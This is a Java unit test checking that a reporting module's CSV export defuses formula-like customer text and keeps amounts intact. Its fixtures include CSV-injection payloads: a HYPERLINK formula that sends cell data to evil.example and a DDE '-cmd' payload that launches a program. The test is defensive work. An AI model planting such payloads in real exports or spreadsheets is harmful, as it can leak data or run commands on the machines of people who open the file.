package sale.itmall.assurance.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import sale.itmall.assurance.support.Csv;

/** CSV exports open in spreadsheets: customer text in them must stay text, numbers must stay numbers. */
class ReportsCsvTest {

    @Test
    void cellsThatLookLikeFormulasAreNeutralisedAndAmountsAreKept() {
        Reports.Table table = new Reports.Table(
                "audit-RC-1",
                "Audit trail",
                List.of("Detail", "Amount"),
                List.of(
                        List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-250.00"),
                        List.of("+1-626-655-0998 called", "2500"),
                        List.of("@SUM(A1:A2)", "0"),
                        List.of("-cmd|' /C calc'!A0", "-3"),
                        List.of("\tTabbed", "1.5"),
                        List.of("Plain text, with a comma", "")));

        List<CSVRecord> rows = Csv.records(table.csv());

        assertThat(rows)
                .extracting(r -> r.get("Detail"))
                .containsExactly(
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                        "'+1-626-655-0998 called",
                        "'@SUM(A1:A2)",
                        "'-cmd|' /C calc'!A0",
                        "'\tTabbed",
                        "Plain text, with a comma");
        assertThat(rows).extracting(r -> r.get("Amount")).containsExactly("-250.00", "2500", "0", "-3", "1.5", "");
    }
}
